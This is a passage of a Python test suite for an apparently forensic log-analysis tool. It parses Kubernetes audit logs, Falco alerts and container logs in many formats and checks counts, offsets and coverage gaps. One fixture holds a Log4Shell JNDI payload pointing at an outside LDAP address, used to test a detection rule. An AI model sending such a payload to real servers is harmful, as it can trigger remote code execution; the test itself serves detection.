"""Logs in the forms in which they reach a package: every record is read, with its place."""
import base64
import bz2
import gzip
import json
import lzma
import os
import random
import shutil
import sqlite3
import subprocess
import tempfile
import unittest
from datetime import datetime, timedelta, timezone
from pathlib import Path

import sys

sys.path.insert(0, str(Path(__file__).parent))
from audit_forms import (NAMESPACE, POD, audit_forms, compact, in_parts, legacy, lines,  # noqa: E402
                         loki, log_entry, old, record, table, yaml_text)

EXHIBIT = os.path.abspath(os.environ.get("EXHIBIT", "build/exhibit"))
MANIFEST = f"""apiVersion: v1
kind: Pod
metadata:
  name: {POD}
  namespace: {NAMESPACE}
  uid: 5a5a5a5a-1111-4222-8333-444444444444
  creationTimestamp: "2026-03-01T09:00:00Z"
spec:
  nodeName: node-1
  serviceAccountName: web
  containers:
  - name: app
    image: registry.example/web:1
"""


class Inputs(unittest.TestCase):
    def setUp(self):
        self.folder = Path(tempfile.mkdtemp(prefix="exhibit-inputs-"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.package = self.folder / "package"
        self.package.mkdir()
        (self.package / "pod.yaml").write_text(MANIFEST)

    def put(self, name, data):
        path = self.package / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return path

    def analyze(self, *options):
        out = self.folder / "out"
        shutil.rmtree(out, ignore_errors=True)
        done = subprocess.run([EXHIBIT, "analyze", self.package, "-o", out, *options],
                              capture_output=True, text=True, check=False)
        self.assertIn(done.returncode, (0, 1), done.stderr)
        self.coverage = json.loads((out / "coverage.json").read_text())
        self.findings = json.loads((out / "findings.json").read_text())["findings"]
        db = sqlite3.connect(out / "case.db")
        db.row_factory = sqlite3.Row
        self.events = [dict(r) for r in db.execute(
            "SELECT event.*, item.path, place.offset AS at, place.length AS size "
            "FROM event JOIN event_place AS place ON place.event = event.id "
            "JOIN item ON item.id = place.item ORDER BY event.id, place.ordinal")]
        db.close()
        for e in self.events:
            e["fields"] = json.loads(e["fields"])
            e["offset"], e["length"] = e["at"], e["size"]  # of this place, not the first one

    def source(self, name):
        found = [s for s in self.coverage["sources"] if s["item"].split("//")[0] == name]
        self.assertEqual(len(found), 1, f"{name}: {[s['item'] for s in found]}")
        return found[0]

    def of(self, name, source):
        return [e for e in self.events
                if e["path"].split("//")[0] == name and e["source"] == source]


class Audit(Inputs):
    def test_every_form_gives_every_record_with_its_place(self):
        forms = audit_forms()
        for name, (text, _) in forms.items():
            self.put(name, text)
        self.analyze()
        for name, (text, numbers) in forms.items():
            with self.subTest(form=name):
                seen = self.source(name)
                self.assertEqual(seen["role"], "audit-log")
                self.assertEqual(seen["records"], len(numbers))
                self.assertEqual(seen["malformed"]["count"], 0)
                self.assertEqual(seen["cut_off"]["count"], 0)
                # Logs Insights gives each record two columns that are none.
                other = 2 * len(numbers) if name == "insights.json" else 0
                self.assertEqual(seen["other_lines"], other)
                events = self.of(name, "audit")
                self.assertEqual([e["fields"]["audit_id"] for e in events],
                                 [record(n)["auditID"] for n in numbers])
                for e, n in zip(events, numbers):
                    self.check_event(e, n, text.encode())

    def check_event(self, e, n, data):
        whole = record(n)["stageTimestamp"]
        stated = int(e["time"]) // 10**9
        self.assertEqual(stated % 3600, n % 3600, whole)
        self.assertEqual(e["actor"], "eve@example.org")
        self.assertEqual(e["action"], "get pods")
        self.assertEqual(e["object"], f"{NAMESPACE}/{POD}")
        self.assertEqual(e["fields"]["source_ip"], "203.0.113.9")
        self.assertEqual(e["fields"]["code"], "200")
        cited = data[e["offset"]:e["offset"] + e["length"]]
        self.assertIn(record(n)["auditID"].encode(), cited)
        self.assertEqual(cited.count(b"00000000-0000-4000-8000-"),
                         cited.count(record(n)["auditID"].encode()))

    def test_subscriptions_as_their_targets_get_them(self):
        def message(numbers):
            text = compact({"messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/c1/cluster",
                            "logStream": "kube-apiserver-audit-0123", "logEvents": [
                                {"id": "1", "timestamp": 1, "message": compact(record(n))}
                                for n in numbers]})
            return base64.b64encode(gzip.compress(text.encode())).decode()
        forms = {
            "lambda.json": json.dumps({"awslogs": {"data": message((0, 1))}}, indent=2),
            "lambda.jsonl": "".join(compact({"awslogs": {"data": message((n,))}}) + "\n"
                                    for n in (10, 11)),
            "kinesis.json": compact({"Records": [
                {"kinesis": {"kinesisSchemaVersion": "1.0", "data": message((n,))},
                 "eventSource": "aws:kinesis"} for n in (20, 21)]}),
            # Some writers escape slashes, and others what HTML minds.
            "firehose.json": compact({"invocationId": "1", "records": [
                {"recordId": str(n), "approximateArrivalTimestamp": 1, "data": message((n,))}
                for n in (30, 31)]}).replace("/", "\\/").replace("=", "\\u003d"),
        }
        for name, text in forms.items():
            self.put(name, text)
        self.put("cut.json", compact({"awslogs": {"data": message((40, 41))}})[:400])
        self.analyze()
        for first, name in enumerate(forms):
            with self.subTest(form=name):
                seen = self.source(name)
                self.assertEqual((seen["role"], seen["records"]), ("audit-log", 2))
                events = self.of(name, "audit")
                self.assertEqual([e["fields"]["audit_id"] for e in events],
                                 [record(10 * first + n)["auditID"] for n in (0, 1)])
                for e in events:
                    shown = subprocess.run(
                        [EXHIBIT, "show", "--raw", self.package,
                         f"{e['path']}@{e['offset']}+{e['length']}"], capture_output=True,
                        check=True).stdout
                    self.assertIn(e["fields"]["audit_id"].encode(), shown)
        self.assertIn("cut.json", {f["subject"].split("//")[0] for f in self.findings})

    def test_lines_that_the_runtime_cut_are_joined_first(self):
        """Streams interleave, and the log is longer than what one worker decodes at a time."""
        numbers, text, padding = range(400), [], {"x": "y" * 50000}
        for n in numbers:
            whole = compact(record(n, requestObject=padding))
            one = in_parts(whole, n, ("stdout", "stderr")[n % 2], 16384).splitlines(True)
            other = text[-1] if n % 2 else []
            if n % 2:
                text[-1] = [x for pair in zip(other, one) for x in pair] + other[len(one):] + \
                    one[len(other):]
            else:
                text.append(one)
        note = "2026-03-01T10:59:01Z stderr F I0301 10:59:01.000000 1 controller.go:624] quota\n"
        self.put("0.log", "".join("".join(t) + note for t in text))
        self.analyze()
        seen = self.source("0.log")
        self.assertEqual((seen["role"], seen["records"], seen["other_lines"],
                          seen["malformed"]["count"]), ("audit-log", 400, 200, 0))
        self.assertEqual(sorted(e["fields"]["audit_id"] for e in self.of("0.log", "audit")),
                         sorted(record(n)["auditID"] for n in numbers))

    def test_rotated_compressed_and_out_of_order(self):
        numbers = list(range(300))
        random.Random(7).shuffle(numbers)
        parts = [numbers[:100], numbers[100:200], numbers[200:]]
        text = ["".join(compact(record(n)) + "\n" for n in p) for p in parts]
        self.put("audit.log", text[0])
        self.put("audit-2026-03-01T10-00-00.000.log.gz", gzip.compress(text[1].encode()))
        self.put("audit-2026-03-01T09-00-00.000.log", text[2])
        subprocess.run(["zstd", "-q", "--rm", self.package / "audit-2026-03-01T09-00-00.000.log"],
                       check=True)
        self.analyze()
        got = [e["fields"]["audit_id"] for e in self.events if e["source"] == "audit"]
        self.assertEqual(got, [record(n)["auditID"] for n in range(300)])

    def test_a_set_that_was_cut_within_records(self):
        """Copied while it was written: old forms and text mixed, each file compressed otherwise."""
        kinds = (lambda n: compact(record(n)) + "\n", lambda n: compact(old(n, "v1beta1")) + "\n",
                 lambda n: compact(old(n, "v1alpha1")) + "\n", legacy)
        made = [kinds[n % 4](n).encode() for n in range(120)]
        whole, cuts = b"".join(made), (21, 43, 66, 90)  # one of each kind, in its middle
        ends = [sum(map(len, made[:n])) + len(made[n]) // 2 for n in cuts]
        pack = (gzip.compress, bz2.compress, lzma.compress, lambda b: subprocess.run(
            ["zstd", "-qc"], input=b, capture_output=True, check=True).stdout, lambda b: b)
        names = [f"audit-{i}.log{end}" for i, end in enumerate((".gz", ".bz2", ".xz", ".zst", ""))]
        for name, how, first, last in zip(names, pack, [0, *ends], [*ends, len(whole)]):
            self.put(name, how(whole[first:last]))
        self.analyze()
        seen = {e["fields"]["audit_id"]: e for e in self.events if e["source"] == "audit"}
        self.assertEqual(len([e for e in self.events if e["source"] == "audit"]), len(seen))
        uncut = {record(n)["auditID"]: made[n] for n in range(120) if n not in cuts}
        self.assertLessEqual(set(uncut), set(seen))
        for number, text in list(uncut.items())[::7]:
            e = seen[number]
            shown = subprocess.run([EXHIBIT, "show", "--raw", self.package,
                                    f"{e['path']}@{e['offset']}+{e['length']}"],
                                   capture_output=True, check=True).stdout
            self.assertEqual(shown.rstrip(b"\n"), text.rstrip(b"\n"))
        for i, name in enumerate(names):
            with self.subTest(name):
                told = self.source(name)
                self.assertEqual(told["cut_off"]["count"], int(i < 4))
                self.assertEqual(told["malformed"]["count"] + told["other_lines"], int(i > 0))

    def test_silence_between_the_files_of_a_set_is_a_gap(self):
        def part(first, last):
            return "".join(compact(record(n)) + "\n" for n in range(first, last))
        self.put("audit-1.log", part(0, 300))
        self.put("audit-2.log", part(300, 600))
        self.put("audit-4.log", part(1500, 1800))
        # The other API server's log reaches over the silence of the first one.
        self.put("other/audit.log", part(0, 60) + part(540, 700))
        self.analyze()
        gaps = [(g["from"][14:19], g["to"][14:19]) for s in self.coverage["sources"]
                for g in s["gaps"]]
        self.assertEqual(gaps, [("11:39", "25:00")])
        told = [f for f in self.findings if f["rule"] == "coverage.gap"]
        self.assertEqual([f["subject"] for f in told], ["audit-4.log"])
        [unseen] = [f for f in self.findings if f["rule"] == "rules.gap"]
        self.assertEqual((unseen["subject"], unseen["arguments"]["why"]),
                         ("audit", "the source was silent"))

    def put_times(self, name, times):
        """An audit log with requests at these seconds."""
        day = datetime(2026, 3, 1, tzinfo=timezone.utc)
        self.put(name, "".join(compact({
            **record(n), **{k: f"{day + timedelta(seconds=t):%Y-%m-%dT%H:%M:%S.%f}Z" for k in
                            ("requestReceivedTimestamp", "stageTimestamp")}}) + "\n"
            for n, t in enumerate(sorted(times))))

    def gaps_of(self, times):
        self.put_times("audit.log", times)
        self.analyze()
        return [(round(g["seconds"] / 60), g["times_usual"])
                for g in self.source("audit.log")["gaps"]]

    def test_a_gap_is_measured_by_the_rhythm(self):
        chance = random.Random(11)
        two_minutes = [120 * i for i in range(400)]
        self.assertEqual(self.gaps_of(two_minutes), [])
        # Eight requests removed: 18 minutes, nine times two minutes; a bucket is 1/8 wide.
        self.assertIn(self.gaps_of(two_minutes[:200] + two_minutes[208:]), ([(18, 8)], [(18, 9)]))
        rhythm = self.source("audit.log")["rhythm"]
        self.assertEqual(rhythm["intervals"], 391)
        self.assertTrue(120 <= rhythm["usual_seconds"] <= 135, rhythm)
        [told] = [f["arguments"] for f in self.findings if f["rule"] == "coverage.gap"]
        self.assertEqual(float(told["seconds"]), 1080)
        self.assertTrue(120 <= float(told["usual_seconds"]) <= 135, told)

        steady = [2 * i + chance.uniform(0, .5) for i in range(2000)]
        self.assertEqual(self.gaps_of(steady), [])
        [(minutes, _)] = self.gaps_of(steady[:700] + steady[760:])
        self.assertEqual(minutes, 2)

    def test_a_log_with_bursts_and_quiet_nights_has_no_gap(self):
        chance = random.Random(12)
        times = []
        for day in range(7):
            for burst in range(30):
                start = day * 86400 + 8 * 3600 + burst * 1200
                times += [start + chance.expovariate(1) for _ in range(12)]
        self.assertEqual(self.gaps_of(times), [])
        # With two nights alone they still vouch for each other.
        self.assertEqual(self.gaps_of([t for t in times if t < 3 * 86400]), [])
        # Three days are missing: no night is as long.
        [(minutes, _)] = self.gaps_of([t for t in times if not 2 <= t // 86400 < 5])
        self.assertTrue(86 * 60 <= minutes <= 87 * 60, minutes)

    def test_what_the_package_cannot_answer_is_one_list(self):
        self.put("audit.log", lines([record(n) for n in range(3)] +
                                    [record(3, stage="ResponseStarted")]))
        self.put("other/audit.log", lines([
            {k: v for k, v in record(n, level="Metadata").items() if k != "responseObject"}
            for n in range(10, 13)]))
        self.analyze()
        asked = self.coverage["cannot_answer"]
        story = json.loads((self.folder / "out" / "story.json").read_text())["open_questions"]
        self.assertEqual(asked[:len(story)], story)
        self.assertEqual(len({q["question"] for q in asked}), len(asked))
        by_source = {q["question"].split("?")[0]: q["sources"] for q in asked if "sources" in q}
        self.assertEqual(by_source, {
            "What was sent through the API, and what was answered": ["other/audit.log"],
            "How long did sessions of exec, attach and port-forward last": ["other/audit.log"],
            "What was typed in a session": ["audit.log", "other/audit.log"]})
        self.assertEqual([q["absent"] for q in asked if "absent" in q],
                         ["container-log", "kubernetes-events", "runtime-log"])

    def test_nights_of_a_rotated_log_are_no_gaps(self):
        minutes = [day * 86400 + 9 * 3600 + 60 * i for day in range(4) for i in range(480)]
        for k in range(3):  # each from noon to noon, so with one night
            self.put_times(f"audit-{k}.log", [t for t in minutes if k <= t / 86400 - .5 < k + 1])
        self.analyze()
        self.assertEqual([s["gaps"] for s in self.coverage["sources"]
                          if s["role"] == "audit-log"], [[]] * 3)
        # One night alone is longer than anything this log did, and that is said.
        for k in range(3):
            (self.package / f"audit-{k}.log").unlink()
        [(silent, _)] = self.gaps_of([t for t in minutes if t < 2 * 86400])
        self.assertEqual(silent, 16 * 60 + 1)

    def test_requests_by_chance_have_no_gap_but_a_removed_hour(self):
        chance, now, times = random.Random(13), 0, []
        for _ in range(2000):
            now += chance.expovariate(1 / 30)
            times.append(now)
        self.assertEqual(self.gaps_of(times), [])
        [(minutes, _)] = self.gaps_of([t for t in times if not 30000 < t < 33600])
        self.assertTrue(60 <= minutes <= 65, minutes)

    def test_a_baseline_is_counted_once(self):
        days = self.folder / "days.log"
        agent = {"username": f"system:serviceaccount:{NAMESPACE}:web"}
        days.write_text("".join(compact(record(n, user=agent)) + "\n" for n in range(25)))
        self.put("audit.log", "".join(compact(record(n, user=agent, verb=v, objectRef={
            "resource": "secrets", "namespace": NAMESPACE})) + "\n"
            for n, v in ((1000, "list"), (1001, "watch"))))
        self.analyze("--baseline", days)
        baseline = json.loads((self.folder / "out" / "baseline.json").read_text())
        self.assertEqual([(a["baseline_requests"], [n["action"] for n in a["new"]])
                          for a in baseline["accounts"]],
                         [(25, ["list secrets", "watch secrets"])])

    def test_a_baseline_in_every_form(self):
        """More than the walk hands out at once, so that documents go over many pieces."""
        agent = {"username": f"system:serviceaccount:{NAMESPACE}:web"}
        numbers, padding = range(400), {"x": "y" * 20000}
        days = [record(n, user=agent, requestObject=padding) for n in numbers]

        def agents_entry(n):
            entry = log_entry(n)
            entry["protoPayload"]["authenticationInfo"]["principalEmail"] = agent["username"]
            entry["protoPayload"]["request"] = padding
            return entry
        self.put("audit.log", compact(record(1000, user=agent, verb="list", objectRef={
            "resource": "secrets", "namespace": NAMESPACE})) + "\n")
        for name, text in (
                ("days.log", "".join(compact(d) + "\n" for d in days)),
                ("list.json", json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1",
                                          "items": days}, indent=2)),
                ("filter.json", json.dumps({"events": [
                    {"timestamp": 1772363460000, "message": compact(d)} for d in days]},
                                           indent=4)),
                ("days.csv", table(["@message"], [[compact(d)] for d in days])),
                ("parts.log", "".join(in_parts(compact(d), n, size=16384)
                                      for n, d in enumerate(days))),
                ("days.yaml", "---\n".join(yaml_text(d) for d in days[:150])),
                ("gke.json", json.dumps([agents_entry(n) for n in numbers], indent=2))):
            with self.subTest(form=name):
                path = self.folder / name
                path.write_text(text)
                self.analyze("--baseline", path)
                baseline = json.loads((self.folder / "out" / "baseline.json").read_text())
                want = 150 if name == "days.yaml" else 400
                self.assertEqual([a["baseline_requests"] for a in baseline["accounts"]],
                                 [want])

    def test_lines_of_any_length(self):
        sizes = [1 << 10, 1 << 17, 1 << 21, (1 << 23) + 5, 100]
        text = "".join(compact(record(n, requestObject={"kind": "Pod", "x": "y" * size})) + "\n"
                       for n, size in enumerate(sizes))
        self.put("audit.log", text)
        self.put("pretty.json", json.dumps(
            [record(10 + n, requestObject={"x": "y" * size}) for n, size in enumerate(sizes)],
            indent=1))
        self.analyze()
        for name, first in (("audit.log", 0), ("pretty.json", 10)):
            self.assertEqual(self.source(name)["records"], len(sizes))
            self.assertEqual(self.source(name)["malformed"]["count"], 0)
            self.assertEqual([e["fields"]["audit_id"] for e in self.of(name, "audit")],
                             [record(first + n)["auditID"] for n in range(len(sizes))])

    def test_truncated_records_of_cloudwatch_are_salvaged(self):
        def cut(n):
            whole = compact(record(n, requestObject={"kind": "Pod", "x": "y" * 500}))
            return whole[:whole.index('"requestObject"') + 60] + "[Truncated...]"
        texts = [compact(record(0)), cut(1), compact(record(2)), cut(3)]
        self.put("export.log", "".join(f"2026-03-01T11:11:00.000Z {t}\n" for t in texts))
        self.put("filter.json", json.dumps({"events": [
            {"timestamp": 1772363460000, "message": t} for t in texts]}, indent=2))
        self.put("subscription.json", compact({
            "messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/c1/cluster", "logEvents": [
                {"id": "1", "timestamp": 1772363460000, "message": t} for t in texts]}))
        self.analyze()
        for name in ("export.log", "filter.json", "subscription.json"):
            with self.subTest(form=name):
                seen = self.source(name)
                self.assertEqual(seen["records"], 4)
                self.assertEqual(seen["cut_off"]["count"], 2)
                events = {e["fields"]["audit_id"][-1]: e for e in self.of(name, "audit")}
                self.assertEqual(sorted(events), ["0", "1", "2", "3"])
                # What was cut before its own times stands at the time of the log store.
                self.assertEqual(events["1"]["time_desc"], "Record Logged")
                self.assertEqual(events["1"]["time"] // 10**9 % 3600, 11 * 60)
                self.assertEqual(events["1"]["action"], "get pods")

    def test_damage_in_every_form_is_told_and_the_rest_is_read(self):
        mark = "00000000-0000-4000-8000-"
        for name, (text, numbers) in audit_forms().items():
            third = text.index(f"{mark}{numbers[3]:012d}")
            self.put(name, (text[:third] + "\x01").encode() + b"\xff" + text[third + 36:].encode())
        self.analyze()
        for name, (_, numbers) in audit_forms().items():
            with self.subTest(form=name):
                ids = {e["fields"].get("audit_id") for e in self.of(name, "audit")}
                want = {record(n)["auditID"] for n in numbers if n != numbers[3]}
                self.assertLessEqual(want, ids)
                seen = self.source(name)
                told = seen["malformed"]["count"] + seen["cut_off"]["count"]
                # Text has no grammar that a byte could break.
                self.assertEqual(told > 0, name != "legacy.log")


UID = "5a5a5a5a-1111-4222-8333-444444444444"
CONTAINER = "c0ffee" + "0" * 58


def alert(n, **more):
    """Falco's file output (json_output: true)."""
    return {"hostname": "node-1", "output":
            f"10:00:{n:02d}.000000000: Notice Shell (user=root container_id=c0ffee000000 "
            f"k8s_ns_name={NAMESPACE} k8s_pod_name={POD})",
            "output_fields": {"container.id": "c0ffee000000", "evt.time": 1772359200000000000 +
                              n * 10**9, "k8s.ns.name": NAMESPACE, "k8s.pod.name": POD,
                              "proc.cmdline": f"sh -c {n}", "user.name": "root",
                              "proc.tty": 0, "fd.name": None, "proc.aname[2]": "<NA>"},
            "priority": "Notice", "rule": f"Terminal shell in container {n}",
            "source": "syscall", "tags": ["T1059", "container", "shell"],
            "time": f"2026-03-01T10:00:{n:02d}.000000000Z", **more}


class Falco(Inputs):
    def forms(self):
        def lines(values):
            return "".join(compact(v) + "\n" for v in values)
        six = range(6)
        return {
            "file.jsonl": lines(alert(n) for n in six),
            "http.json": json.dumps([alert(n) for n in six], indent=2),
            "sidekick.jsonl": lines({**alert(n), "uuid": f"u{n}", "priority": 5,
                                     "output_fields": {**alert(n)["output_fields"],
                                                       "cluster": "c1"}} | {"priority": "Notice"}
                                    for n in six),
            "elasticsearch.json": json.dumps({"hits": {"hits": [
                {"_source": alert(n)} for n in six]}}),
            "loki.jsonl": lines({**alert(n), "output_fields": None} for n in six),
            "pod-log.log": "".join(f"2026-03-01T10:00:{n:02d}.100000000Z stdout F "
                                   f"{compact(alert(n))}\n" for n in six),
            "text.txt": "".join(f"2026-03-01T10:00:{n:02d}.000000000+0000: Notice Shell (user=root "
                                f"command=sh -c {n} container_id=c0ffee000000 "
                                f"k8s_ns={NAMESPACE} k8s_pod={POD})\n" for n in six),
            "events.jsonl": lines({"specversion": "1.0", "type": "falco.rule.output.v1",
                                   "time": alert(n)["time"], "data": alert(n)} for n in six),
            "grpc.jsonl": lines({("outputFields" if k == "output_fields" else k): v
                                 for k, v in alert(n).items()} for n in six),
            "docker-json.log": lines({"log": compact(alert(n)) + "\n", "stream": "stdout",
                                      "time": f"2026-03-01T10:00:{n:02d}.1Z"} for n in six),
            "shipped.jsonl": lines({"@timestamp": "2026-03-01T10:01:00Z",
                                    "message": compact(alert(n))} for n in six),
            "filebeat.json": json.dumps({"hits": {"hits": [
                {"_source": {"message": compact(alert(n))}} for n in six]}}),
            "splunk.jsonl": lines({"preview": False, "offset": n, "result": {
                "_raw": compact(alert(n)), "_time": "2026-03-01T10:01:00Z"}} for n in six),
            "azure.jsonl": lines({"category": "ContainerLogV2", "properties": {
                "LogMessage": compact(alert(n)), "ContainerName": "falco"}} for n in six),
            "marked.jsonl": "\ufeff" + lines(alert(n) for n in six),
            "loki.json": loki([compact(alert(n)) for n in six]),
            "audit-source.jsonl": lines({
                "output": f"10:00:{n:02d}.000000000: Notice Attach/Exec to pod (user=eve pod={POD})",
                "priority": "Notice", "rule": "Attach/Exec Pod", "source": "k8s_audit",
                "time": f"2026-03-01T10:00:{n:02d}.000000000Z", "tags": ["k8s"],
                "output_fields": {"jevt.time": f"10:00:{n:02d}.000000000",
                                  "ka.user.name": "eve", "ka.target.name": POD,
                                  "ka.target.namespace": NAMESPACE, "ka.verb": "create",
                                  "ka.target.resource": "pods"}} for n in six),
        }

    def test_every_form(self):
        for name, text in self.forms().items():
            self.put("falco/" + name, text)
        self.analyze()
        for name, text in self.forms().items():
            with self.subTest(form=name):
                name = "falco/" + name
                seen = self.source(name)
                self.assertEqual(seen["role"], "falco-alerts")
                self.assertEqual(seen["records"], 6)
                self.assertEqual(seen["malformed"]["count"] + seen["other_lines"], 0)
                events = self.of(name, "falco")
                self.assertEqual([e["time"] // 10**9 % 60 for e in events], list(range(6)))
                for n, e in enumerate(events):
                    self.assertEqual(e["fields"]["pod" if "audit" not in name else "name"], POD)
                    cited = text.encode()[e["offset"]:e["offset"] + e["length"]]
                    self.assertIn(f":{n:02d}".encode(), cited)

    def test_text_without_a_date_and_without_the_rules_name(self):
        """The default of text output: the time of day, in whatever zone the node is."""
        words = ("A shell was spawned in a container with an attached terminal",
                 "Executing binary not part of base image")
        text = "".join(
            f"1{n}:00:00.123456789: {level} {words[n]} (evt_type=execve user=root "
            f"container_id=c0ffee000000 k8s_ns_name={NAMESPACE} k8s_pod_name={POD})\n"
            for n, level in enumerate(("Notice", "Critical")))
        self.put("falco.txt", text)
        self.analyze()
        self.assertEqual(self.of("falco.txt", "falco"), [])
        told = {f["rule"]: f for f in self.findings}
        for rule, line in zip(("runtime_shell_in_container", "runtime_new_binary"),
                              text.splitlines()):
            self.assertIsNone(told[rule]["time"])
            [span] = told[rule]["spans"]
            self.assertEqual(text[span["offset"]:][:span["length"]], line)

    def test_lost_events_are_gaps(self):
        notices = [
            {"output": "10:00:01.0: Debug Falco internal: syscall event drop. 27 system calls "
                       "dropped in last second.", "output_fields": {
                           "ebpf_enabled": "1", "n_drops": "27", "n_drops_buffer": "27",
                           "n_evts": "100"},
             "priority": "Debug", "rule": "Falco internal: syscall event drop",
             "time": "2026-03-01T10:00:01.000000000Z", "source": "internal", "hostname": "node-1"},
            {"output": "Falco internal: timeouts notification. 1000 consecutive timeouts without "
                       "event.", "output_fields": {"last_event_time": "none"},
             "priority": "Debug", "rule": "Falco internal: timeouts notification",
             "time": "2026-03-01T10:00:02.000000000Z", "source": "internal"}]
        self.put("falco.jsonl", "".join(compact(v) + "\n"
                                        for v in [alert(0), *notices, alert(3)]))
        self.analyze()
        seen = self.source("falco.jsonl")
        self.assertEqual(seen["records"], 4)
        self.assertEqual(seen["drop_notices"]["count"], 2)
        self.assertEqual(seen["dropped_events"], 27)
        self.assertTrue(any(f["rule"].startswith("coverage.") for f in self.findings))
        [unseen] = [f for f in self.findings if f["rule"] == "rules.gap"]
        self.assertEqual(unseen["subject"], "falco")
        told = unseen["arguments"]
        self.assertEqual((told["why"], told["from"][11:19], told["to"][11:19]),
                         ("the sensor lost events", "10:00:01", "10:00:02"))


class ContainerLogs(Inputs):
    FOLDER = f"var-log/pods/{NAMESPACE}_{POD}_{UID}/app"

    def messages(self, name):
        return [e["message"] for e in self.of(name, "container-log")]

    def test_cri_with_partial_lines_of_two_streams(self):
        lines = ["2026-03-01T19:00:00.1+09:00 stdout P a1 ",
                 "2026-03-01T19:00:00.2+09:00 stderr P e1 ",
                 "2026-03-01T19:00:00.3+09:00 stdout F a2",
                 "2026-03-01T19:00:00.4+09:00 stderr P:x e2 ",
                 "2026-03-01T19:00:00.123456789+09:00 stdout F whole",
                 "2026-03-01T19:00:01+09:00 stderr F e3",
                 "2026-03-01T19:00:02+09:00 stdout P never ended"]
        self.put(f"{self.FOLDER}/0.log", "\n".join(lines) + "\n")
        self.analyze()
        name = f"{self.FOLDER}/0.log"
        self.assertEqual(sorted(self.messages(name)),
                         sorted(["a1 a2", "e1 e2 e3", "whole", "never ended"]))
        for e in self.of(name, "container-log"):
            self.assertEqual((e["fields"]["namespace"], e["fields"]["pod"],
                              e["fields"]["container"], e["fields"]["pod_uid"]),
                             (NAMESPACE, POD, "app", UID))
            self.assertEqual(e["time"] // 10**9 % 86400, 36000 + e["time"] // 10**9 % 60)

    def test_logs_of_other_pods_in_the_folders_of_collectors(self):
        for name in ("dump/kube-system/coredns-64b67fc8fd-xk2lp-coredns.log",
                     f"must-gather/namespaces/{NAMESPACE}/pods/db-0/db/db/logs/current.log",
                     "logs/web-7f6c9d8b5-hh2kq.log", "node/kube-system/etcd.log",
                     "10.0.0.5/dmesg.log", "must-gather.log"):
            self.put(name, "2026-03-01T10:00:01.5Z theirs\n")
        self.put(f"must-gather/namespaces/{NAMESPACE}/pods/{POD}/app/app/logs/current.log",
                 "2026-03-01T10:00:02.5Z ours\n")
        self.put("case-24579/app-https.log", "2026-03-01T10:00:03.5Z not told\n")
        self.analyze()
        lines = [e for e in self.events if e["source"] == "container-log"]
        self.assertEqual([(e["message"], e["object"]) for e in lines],
                         [("ours", f"{NAMESPACE}/{POD}/app"), ("not told", f"{NAMESPACE}/{POD}")])

    def test_rotated_set(self):
        for i, name in enumerate(("0.log.20260301-090000.gz", "0.log.20260301-093000", "0.log",
                                  "1.log")):
            text = f"2026-03-01T10:00:0{i}.5Z stdout F line {i}\n"
            self.put(f"{self.FOLDER}/{name}",
                     gzip.compress(text.encode()) if name.endswith("gz") else text)
        self.analyze()
        lines = [e for e in self.events if e["source"] == "container-log"]
        self.assertEqual([e["message"] for e in lines], [f"line {i}" for i in range(4)])
        self.assertEqual({e["fields"]["pod"] for e in lines}, {POD})
        self.assertEqual([e["fields"]["restart"] for e in lines], ["0", "0", "0", "1"])

    def test_links_of_the_kubelet_and_docker(self):
        link = f"containers/{POD}_{NAMESPACE}_app-{CONTAINER}.log"
        self.put(link, "2026-03-01T10:00:00.5Z stdout F by link\n")
        docker = f"docker/containers/{CONTAINER}/{CONTAINER}-json.log"
        parts = [("one ", "stdout"), ("err\n", "stderr"), ("two\n", "stdout"), ("last", "stdout")]
        self.put(docker, "".join(compact({"log": t, "stream": s,
                                          "time": f"2026-03-01T10:00:0{i}.25Z"}) + "\n"
                                 for i, (t, s) in enumerate(parts)) + '{"log":"broken\n')
        self.analyze()
        (e,) = self.of(link, "container-log")
        self.assertEqual((e["fields"]["namespace"], e["fields"]["pod"], e["fields"]["container"],
                          e["fields"]["container_id"]), (NAMESPACE, POD, "app", CONTAINER))
        self.assertEqual(self.source(docker)["malformed"]["count"], 1)
        self.assertEqual(sorted(self.messages(docker)), ["err", "last", "one two"])

    def test_kubectl_logs(self):
        stamped = [f"2026-03-01T10:00:0{i}.123456789Z line {i}" for i in range(3)]
        self.put("logs/web-0.txt", "\n".join(stamped) + "\n")
        self.put("logs/web-0-previous.log", "\n".join(stamped) + "\n")
        self.put("logs/prefixed.txt", "".join(f"[pod/{POD}/app] {x}\n" for x in stamped))
        self.put("logs/plain.txt", "no time here\nnor here\n")
        self.put("logs/plain-prefixed.log", f"[pod/{POD}/app] no time here\n")
        self.analyze()
        for name in ("logs/web-0.txt", "logs/web-0-previous.log", "logs/prefixed.txt"):
            self.assertEqual(self.messages(name), [f"line {i}" for i in range(3)])
        for e in self.of("logs/prefixed.txt", "container-log"):
            self.assertEqual((e["fields"]["pod"], e["fields"]["container"]), (POD, "app"))
        for name, n in (("logs/plain.txt", 2), ("logs/plain-prefixed.log", 1)):
            self.assertEqual(self.source(name)["without_time"], n)

    def test_rules_read_lines_that_were_taken_without_times(self):
        line = "[pod/web-0/app] GET /?x=${jndi:ldap://198.51.100.9/a} 404"
        self.put("taken.txt", f"[pod/web-0/app] started\n{line}\n")
        self.analyze()
        self.assertEqual(self.messages("taken.txt"), [])
        [found] = [f for f in self.findings if f["rule"] == "log_jndi"]
        self.assertIsNone(found["time"])
        self.assertEqual([(s["offset"], s["length"]) for s in found["spans"]],
                         [(24, len(line))])


class Runtime(Inputs):
    def test_journal_of_kubelet_and_containerd(self):
        def entry(n, **fields):
            return {"__CURSOR": f"s={n}", "__REALTIME_TIMESTAMP": str(1772359200000000 + n * 10**6),
                    "__MONOTONIC_TIMESTAMP": "1", "_BOOT_ID": "b", "_HOSTNAME": "node-1",
                    "PRIORITY": "6", **fields}
        sandbox = "5a4db0" + "0" * 58
        text = [
            entry(0, SYSLOG_IDENTIFIER="containerd", MESSAGE=f'time="2026-03-01T10:00:00Z" '
                  f'level=info msg="RunPodSandbox for &PodSandboxMetadata{{Name:{POD},Uid:{UID},'
                  f'Namespace:{NAMESPACE},Attempt:0,}} returns sandbox id \\"{sandbox}\\""'),
            entry(1, SYSLOG_IDENTIFIER="containerd", MESSAGE=f'level=info msg="CreateContainer '
                  f'within sandbox \\"{sandbox}\\" for &ContainerMetadata{{Name:app,Attempt:0,}} '
